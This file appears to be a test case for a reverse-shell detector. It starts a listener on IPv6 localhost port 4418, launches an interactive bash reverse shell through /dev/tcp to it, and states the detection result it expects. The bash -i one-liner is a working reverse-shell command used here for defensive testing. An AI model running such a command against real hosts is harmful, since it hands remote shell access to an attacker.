# R18: bash on a connection of IPv6
# stage: behaviour
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.length: 1
#   reverse_shell.process_list.0.process_id: $shell
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4418
#   reverse_shell.process_list.0.network_connection_list.0.destination_ip_address: ::1

#: prepare
. lib/peers.sh
peer6 4418
#: act
. lib/peers.sh
act
bash -c "bash -i >& /dev/tcp/::1/4418 0>&1" < /dev/null > /dev/null 2>&1 &
who shell 'bash -i'
await 'at $shell 0 socket:*'
